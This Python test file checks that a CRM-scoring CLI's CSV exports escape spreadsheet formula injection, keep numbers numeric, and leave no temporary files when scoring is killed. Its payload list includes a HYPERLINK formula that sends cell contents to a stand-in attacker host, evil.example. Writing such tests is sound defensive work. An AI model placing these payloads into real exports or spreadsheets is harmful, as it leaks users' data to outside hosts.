"""Every command that writes CSV writes no live spreadsheet formula, and numbers stay numbers.

A demo workspace is loaded with hostile values (formulas as company names, industries, keys
and unreadable cells); each CSV-writing command runs on it, and every cell of every output is
checked with the csv module: a cell that a spreadsheet would run as a formula must start with
the single quote that makes it text. Kill tests: ``icp score`` stopped at a random moment
leaves the previous output or none, and no temporary file once the next run is done.
"""

from __future__ import annotations

import csv
import io
import random
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from icpkit.cli.main import app
from icpkit.demo import make_crm, make_universe
from icpkit.output.csvfile import TRIGGERS
from icpkit.output.files import TEMP_MARK
from icpkit.workspace import Workspace

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "  =1",
    "＝1",
)
NEGATIVE = -12.5
# Industries of the demo export renamed to payloads: analysis tables then show them as segments.
RENAMED = dict(
    zip(
        ("Retail", "Manufacturing", "Machinery", "Higher Education", "Education Management",
         "E-Learning", "Industrial Automation"),
        PAYLOADS,
        strict=True,
    )
)  # fmt: skip


def live_formulas(text: str) -> list[str]:
    """Cells of CSV ``text`` that a spreadsheet would run as a formula: those starting (after
    spaces) with = + - @ tab CR or their full-width forms, that are not plain numbers."""
    live = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            head = cell.lstrip(" ")[:1]
            if head and head in TRIGGERS and not _is_number(cell):
                live.append(cell)
    return live


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@dataclass(frozen=True)
class Hostile:
    ws: Workspace
    raw: Path  # a companies export with hostile names
    layout: Path  # a universe in the scorer's input layout with hostile keys and names
    layout_csv: Path  # the same as CSV, with a numeric column of negative numbers
    hostile_keys: frozenset[str]  # the account keys of ``layout`` that are formulas


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    root = tmp_path_factory.mktemp("hostile")
    files = make_crm(2_000, 5, root / "data")
    with files.companies.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for i, row in enumerate(rows):
        row["Industry"] = RENAMED.get(row["Industry"], row["Industry"])
        if i % 50 == 0:
            row["Company name"] = PAYLOADS[i // 50 % len(PAYLOADS)]
        if i % 97 == 0:
            row["Number of Employees"] = PAYLOADS[i // 97 % len(PAYLOADS)]  # quarantined
    with files.companies.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    ws = Workspace.init(root / "ws")
    assert ws.ingest(files.exports()).ok
    ws.derive()
    universe = make_universe(files, 1_000, 1, root / "universe")
    table = pq.read_table(universe.path)
    n = table.num_rows
    keys = table["account_key"].to_pylist()
    names = table["name"].to_pylist()
    for i in range(files.n_companies, n, 3):
        keys[i] = f"{PAYLOADS[i % len(PAYLOADS)]}#{i}"
        names[i] = PAYLOADS[(i + 1) % len(PAYLOADS)]
    table = table.set_column(table.schema.get_field_index("account_key"), "account_key",
                             pa.array(keys))  # fmt: skip
    table = table.set_column(table.schema.get_field_index("name"), "name", pa.array(names))
    table = table.append_column("balance", pa.array([NEGATIVE] * n))
    layout = root / "universe_hostile.parquet"
    pq.write_table(table, layout)
    layout_csv = root / "universe_hostile.csv"
    table.drop_columns(["technologies"]).to_pandas().to_csv(layout_csv, index=False)
    raw = root / "prospects.csv"
    files.write_prospects(raw)
    formulas = frozenset(keys[i] for i in range(files.n_companies, n, 3))
    return Hostile(Workspace.open(ws.root), raw, layout, layout_csv, formulas)


def _run(args: list[str]) -> str:
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    return result.stdout


def _commands(h: Hostile, out: Path) -> dict[str, list[str]]:
    """Every command that writes CSV, with the arguments that make it write CSV to ``out``
    (or to stdout when the command has no --out)."""
    w = ["-w", str(h.ws.root)]
    fmt = ["--format", "csv", "--out", str(out)]
    return {
        "analyze tiers": ["analyze", "tiers", *w, *fmt],
        "analyze segments": ["analyze", "segments", "--by", "industry", *w, *fmt],
        "analyze lift": ["analyze", "lift", *w, *fmt],
        "tam": ["tam", str(h.layout), *w, *fmt],
        "lookalike": ["lookalike", str(h.layout), "--top", "200", *w, *fmt],
        "score (input layout)": ["score", str(h.layout), *w, "--out", str(out)],
        "score (input layout, csv)": ["score", str(h.layout_csv), *w, "--out", str(out)],
        "score (raw export)": ["score", str(h.raw), *w, "--out", str(out)],
        "quarantine": ["quarantine", *w, "--limit", "0", "--format", "csv"],
    }


COMMANDS = [
    "analyze tiers",
    "analyze segments",
    "analyze lift",
    "tam",
    "lookalike",
    "score (input layout)",
    "score (input layout, csv)",
    "score (raw export)",
    "quarantine",
]


@pytest.mark.slow
@pytest.mark.parametrize("command", COMMANDS)
def test_csv_output_holds_no_live_formula(hostile: Hostile, command: str, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    stdout = _run(_commands(hostile, out)[command])
    text = out.read_text(encoding="utf-8") if out.exists() else stdout
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1, f"{command} wrote no rows"
    assert live_formulas(text) == []
    # Numbers stay numbers: none is written as quoted text.
    assert [c for row in rows for c in row if c.startswith("'") and _is_number(c[1:])] == []
    # The hostile values are there, as text: nothing was dropped to be safe.
    if command.startswith(("score", "lookalike", "quarantine", "analyze segments")):
        assert any(cell.startswith("'") for row in rows for cell in row), text[:500]


@pytest.mark.slow
def test_scored_csv_keeps_negative_numbers_and_escapes_the_account_key(
    hostile: Hostile, tmp_path: Path
) -> None:
    out = tmp_path / "scored.csv"
    _run(["score", str(hostile.layout), "-w", str(hostile.ws.root), "--out", str(out)])
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["balance"] for r in rows} == {str(NEGATIVE)}
    keys = {r["account_key"] for r in rows}
    assert {"'" + k for k in hostile.hostile_keys} <= keys
    # The score itself, a number, is written as a number.
    assert all(_is_number(r["score"]) for r in rows)


@pytest.mark.slow
def test_quarantine_csv_escapes_raw_values_but_keeps_line_numbers(hostile: Hostile) -> None:
    text = _run(["quarantine", "-w", str(hostile.ws.root), "--limit", "0", "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(text)))
    values = {r["raw_value"] for r in rows}
    assert "'@SUM(A1)" in values and "'＝1" in values and "'\t=1" in values
    assert all(r["line"].isdigit() for r in rows)


# --- Kill tests: an interrupted icp score leaves the old file or none, and no temporary file ---


@pytest.fixture(scope="module")
def big(hostile: Hostile, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A file in the input layout that takes a few seconds to score."""
    table = pq.read_table(hostile.layout)
    path = tmp_path_factory.mktemp("big") / "big.parquet"
    repeat = 600_000 // table.num_rows + 1
    big = pa.concat_tables([table] * repeat)
    keys = pa.array([f"k{i}" for i in range(big.num_rows)])
    big = big.set_column(big.schema.get_field_index("account_key"), "account_key", keys)
    pq.write_table(big, path)
    return path


def _score(ws: Workspace, path: Path, out: Path) -> subprocess.Popen[bytes]:
    icp = Path(sys.executable).with_name("icp")
    return subprocess.Popen(
        [str(icp), "score", str(path), "-w", str(ws.root), "--out", str(out)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )


def _strays(out: Path, ws: Workspace) -> list[str]:
    """Anything beside ``out`` but ``out`` itself, and any temporary or spill file in the
    workspace."""
    beside = [p.name for p in out.parent.iterdir() if p != out]
    inside = [
        str(p.relative_to(ws.root))
        for p in ws.root.rglob("*")
        if TEMP_MARK in p.name or p.name.startswith("tmp_") or "duckdb_temp" in p.name
    ]
    return sorted(beside + inside)


@pytest.fixture
def previous(hostile: Hostile, big: Path, tmp_path: Path) -> Iterator[tuple[Path, bytes]]:
    out = tmp_path / "scored.csv"
    proc = _score(hostile.ws, big, out)
    assert proc.wait(120) == 0, proc.stderr.read() if proc.stderr else ""
    yield out, out.read_bytes()


@pytest.mark.slow
@pytest.mark.parametrize("seed", [1, 2, 3])
def test_a_killed_score_leaves_the_previous_file_and_the_next_run_no_stray(
    hostile: Hostile, big: Path, previous: tuple[Path, bytes], seed: int
) -> None:
    out, before = previous
    started = time.monotonic()
    proc = _score(hostile.ws, big, out)
    time.sleep(random.Random(seed).uniform(0.5, 4.0))
    proc.send_signal(signal.SIGKILL)
    proc.wait(30)
    # The previous complete file, or the new complete one if the kill came after the rename.
    assert out.read_bytes() == before or _csv_rows(out) == pq.read_metadata(big).num_rows
    took = time.monotonic() - started
    again = _score(hostile.ws, big, out)
    assert again.wait(120) == 0
    assert _strays(out, hostile.ws) == [], f"killed after {took:.1f} s"
    assert _csv_rows(out) == pq.read_metadata(big).num_rows


@pytest.mark.slow
@pytest.mark.parametrize("seed", [4, 5])
def test_a_terminated_score_removes_its_temporary_files_itself(
    hostile: Hostile, big: Path, tmp_path: Path, seed: int
) -> None:
    out = tmp_path / "fresh" / "scored.csv"
    out.parent.mkdir()
    proc = _score(hostile.ws, big, out)
    time.sleep(random.Random(seed).uniform(0.5, 4.0))
    proc.send_signal(signal.SIGTERM)
    proc.wait(60)
    # 143: the command unwound; -SIGTERM: the signal came while Python was still starting
    # (before icp set its handler, nothing written yet; on a loaded machine start-up takes
    # seconds). Either way no temporary file may stay, which is what this test is about.
    assert proc.returncode in (0, 128 + signal.SIGTERM, -signal.SIGTERM)
    # Either the file was complete before the signal came, or there is none.
    if out.exists():
        assert _csv_rows(out) == pq.read_metadata(big).num_rows
    else:
        assert proc.returncode != 0
    assert _strays(out, hostile.ws) == []


def _csv_rows(path: Path) -> int:
    with path.open(encoding="utf-8", newline="") as fh:
        return sum(1 for _ in csv.reader(fh)) - 1
